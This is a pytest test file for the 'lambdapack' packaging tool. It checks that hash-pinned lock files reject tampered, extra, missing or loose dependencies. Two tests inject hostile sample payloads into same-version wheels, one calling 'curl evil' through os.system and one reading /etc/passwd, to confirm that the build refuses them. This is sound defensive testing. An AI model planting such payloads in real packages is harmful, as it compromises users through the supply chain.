"""Supply chain: ``lambdapack lock`` and rebuilding from the lock with ``--require-hashes``.

Offline: the wheels are built here and served from a ``--find-links`` directory with the
indexes switched off (``UV_NO_INDEX``/``PIP_NO_INDEX``, the user's own configuration knobs).
A slow test locks the real scikit-learn stack from PyPI.
"""

from __future__ import annotations

from pathlib import Path

import hostile
import pytest

from lambdapack import lock as lock_module
from lambdapack import wheels as wheels_module
from lambdapack.archive import sha256_file
from lambdapack.errors import ResolveError
from lambdapack.targets import Target

TARGET = Target.for_runtime("python3.12", "x86_64")


@pytest.fixture
def offline(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """A find-links directory with alpha 1.0 (needs beta) and beta 1.0; indexes off; a private cache."""
    monkeypatch.setenv("UV_NO_INDEX", "1")
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("LAMBDAPACK_CACHE_DIR", str(tmp_path / "cache"))
    links = tmp_path / "links"
    hostile.good_wheel(links, "alpha", "1.0", requires=("beta>=1",))
    hostile.good_wheel(links, "beta", "1.0")
    return links


def _inputs(lock: Path, links: Path) -> object:
    return wheels_module.Inputs(requirement_files=(lock,), find_links=(links,))


def test_lock_pins_the_whole_closure_with_the_files_hashes(run_cli, offline: Path, in_tmp: Path) -> None:
    result = run_cli("lock", "alpha", "--find-links", str(offline), "--out", "req.lock", "--json")
    assert result.exit_code == 0, result.stderr
    doc = result.json()
    pins = {p["name"]: p for p in doc["packages"]}
    assert set(pins) == {"alpha", "beta"}
    for name in ("alpha", "beta"):
        assert pins[name]["sha256"] == sha256_file(offline / f"{name}-1.0-py3-none-any.whl")
    text = (in_tmp / "req.lock").read_text()
    assert f"beta==1.0 \\\n    --hash=sha256:{pins['beta']['sha256']}" in text
    assert "runtime=python3.12 arch=x86_64" in text
    assert doc["sha256"] == sha256_file(in_tmp / "req.lock")
    # the same inputs give the same lock, byte for byte
    again = run_cli("lock", "alpha", "--find-links", str(offline), "--out", "req2.lock")
    assert again.exit_code == 0
    assert (in_tmp / "req2.lock").read_text().split("\n", 4)[4] == text.split("\n", 4)[4]


@pytest.mark.parametrize("resolver", ["uv", "pip"])
def test_rebuild_from_the_lock_gets_the_same_bytes_or_fails(resolver: str, offline: Path, tmp_path: Path) -> None:
    lock_path = tmp_path / "req.lock"
    lock_module.lock_requirements(wheels_module.Inputs(("alpha",), find_links=(offline,)), TARGET, lock_path,
                                  resolver=resolver)
    lock = lock_module.require_hashes_inputs(_inputs(lock_path, offline), TARGET)
    got = wheels_module.fetch_wheels(_inputs(lock_path, offline), TARGET, resolver=resolver,
                                     cache_dir=tmp_path / "cache")
    lock_module.verify_locked(got, lock)
    assert {w.sha256 for w in got} == {sha256_file(p) for p in offline.iterdir()}

    # same name, same version, different bytes: the index (here a directory) was tampered with
    hostile.good_wheel(offline, "beta", "1.0", payload=b"import os; os.system('curl evil')\n")
    with pytest.raises(ResolveError, match=r"hash|HASHES"):
        fresh = wheels_module.fetch_wheels(_inputs(lock_path, offline), TARGET, resolver=resolver,
                                           cache_dir=tmp_path / "cache2")
        lock_module.verify_locked(fresh, lock)


def test_verify_refuses_extra_missing_and_moved_versions(tmp_path: Path) -> None:
    lock_path = tmp_path / "req.lock"
    lock_path.write_text("alpha==1.0 \\\n    --hash=sha256:" + "a" * 64 + "\n"
                         "beta==1.0 --hash=sha256:" + "b" * 64 + "\n")
    lock = lock_module.read_lock(lock_path)

    def wheel(name: str, version: str, digest: str) -> object:
        return wheels_module.FetchedWheel(name, version, f"{name}-{version}-py3-none-any.whl", digest, 1,
                                          tmp_path / "x.whl")

    lock_module.verify_locked([wheel("alpha", "1.0", "a" * 64), wheel("beta", "1.0", "b" * 64)], lock)
    with pytest.raises(ResolveError, match=r"not in req.lock"):
        lock_module.verify_locked([wheel("alpha", "1.0", "a" * 64), wheel("beta", "1.0", "b" * 64),
                                   wheel("gamma", "1.0", "c" * 64)], lock)
    with pytest.raises(ResolveError, match="did not resolve"):
        lock_module.verify_locked([wheel("alpha", "1.0", "a" * 64)], lock)
    with pytest.raises(ResolveError, match=r"pins 1.0"):
        lock_module.verify_locked([wheel("alpha", "1.1", "a" * 64), wheel("beta", "1.0", "b" * 64)], lock)
    with pytest.raises(ResolveError, match="not a hash"):
        lock_module.verify_locked([wheel("alpha", "1.0", "d" * 64), wheel("beta", "1.0", "b" * 64)], lock)


@pytest.mark.parametrize(("content", "message"), [
    ("alpha>=1.0 --hash=sha256:" + "a" * 64 + "\n", "not pinned"),
    ("alpha==1.0\n", "not pinned"),
    ("--index-url https://example.invalid/simple\nalpha==1.0 --hash=sha256:" + "a" * 64 + "\n", "option lines"),
    ("alpha==1.0 --hash=sha256:" + "a" * 64 + "\nalpha==1.0 --hash=sha256:" + "a" * 64 + "\n", "twice"),
    ("# only comments\n", "no pinned"),
])
def test_unhashed_or_loose_lock_files_are_refused(tmp_path: Path, content: str, message: str) -> None:
    path = tmp_path / "req.lock"
    path.write_text(content)
    with pytest.raises(ResolveError, match=message) as caught:
        lock_module.read_lock(path)
    assert caught.value.hint


def test_a_lock_for_another_target_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "req.lock"
    path.write_text(lock_module.render_lock([], Target.for_runtime("python3.11", "arm64"), "")
                    + "alpha==1.0 --hash=sha256:" + "a" * 64 + "\n")
    inputs = wheels_module.Inputs(requirement_files=(path,))
    with pytest.raises(ResolveError, match=r"another target.*runtime python3.11"):
        lock_module.require_hashes_inputs(inputs, TARGET)
    lock_module.require_hashes_inputs(inputs, Target.for_runtime("python3.11", "arm64"))


def test_require_hashes_takes_nothing_but_the_lock(tmp_path: Path) -> None:
    path = tmp_path / "req.lock"
    path.write_text("alpha==1.0 --hash=sha256:" + "a" * 64 + "\n")
    with pytest.raises(ResolveError, match="-r FILE only"):
        lock_module.require_hashes_inputs(wheels_module.Inputs(("beta",), (path,)), TARGET)
    with pytest.raises(ResolveError, match="exactly one"):
        lock_module.require_hashes_inputs(wheels_module.Inputs(), TARGET)


def test_lock_cli_errors_are_one_line_with_a_hint(run_cli, in_tmp: Path) -> None:
    wheel = hostile.good_wheel(in_tmp, "local", "1.0")
    result = run_cli("lock", str(wheel))
    assert result.exit_code == 1
    assert "error: a lock pins index releases" in result.stderr and "hint:" in result.stderr
    assert not (in_tmp / "requirements.lock").exists()


@pytest.mark.slow
def test_lock_and_rebuild_the_scikit_learn_stack_from_pypi(run_cli, in_tmp: Path, layer_download_cache: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    # the session's shared download cache: the layer tests fetch the same wheels
    monkeypatch.setenv("LAMBDAPACK_CACHE_DIR", str(layer_download_cache))
    result = run_cli("lock", "scikit-learn", "joblib", "--runtime", "python3.12", "--arch", "x86_64", "--json")
    assert result.exit_code == 0, result.stderr
    names = {p["name"] for p in result.json()["packages"]}
    assert {"scikit-learn", "numpy", "scipy", "joblib", "threadpoolctl"} <= names
    lock = lock_module.require_hashes_inputs(wheels_module.Inputs(requirement_files=(in_tmp / "requirements.lock",)),
                                             TARGET)
    got = wheels_module.fetch_wheels(wheels_module.Inputs(requirement_files=(in_tmp / "requirements.lock",)),
                                     TARGET, cache_dir=wheels_module.default_cache_dir())
    lock_module.verify_locked(got, lock)
    assert all("manylinux" in w.filename or w.filename.endswith("-none-any.whl") for w in got)


def test_build_layer_require_hashes_builds_from_the_lock_or_fails(run_cli, offline: Path, in_tmp: Path) -> None:
    assert run_cli("lock", "alpha", "--find-links", str(offline), "--out", "req.lock").exit_code == 0
    build = ("build-layer", "--require-hashes", "-r", "req.lock", "--find-links", str(offline),
             "--no-compile", "--no-check", "-o", "dist/layer.zip")
    first = run_cli(*build, "--json")
    assert first.exit_code == 0, first.stderr
    locked = lock_module.read_lock(in_tmp / "req.lock").pins
    assert {p["name"]: p["sha256"] for p in first.json()["packages"]} == {
        name: next(iter(hashes)) for name, (_v, hashes) in locked.items()}
    layer_sha = sha256_file(in_tmp / "dist" / "layer.zip")

    hostile.good_wheel(offline, "beta", "1.0", payload=b"STOLEN = open('/etc/passwd').read()\n")
    tampered = run_cli(*build)
    assert tampered.exit_code == 1
    assert "error:" in tampered.stderr and "hint:" in tampered.stderr
    assert "beta" in tampered.stderr
    assert sha256_file(in_tmp / "dist" / "layer.zip") == layer_sha  # the previous layer is untouched

    loose = run_cli("build-layer", "--require-hashes", "alpha", "--find-links", str(offline), "--no-compile")
    assert loose.exit_code == 1 and "-r FILE only" in loose.stderr
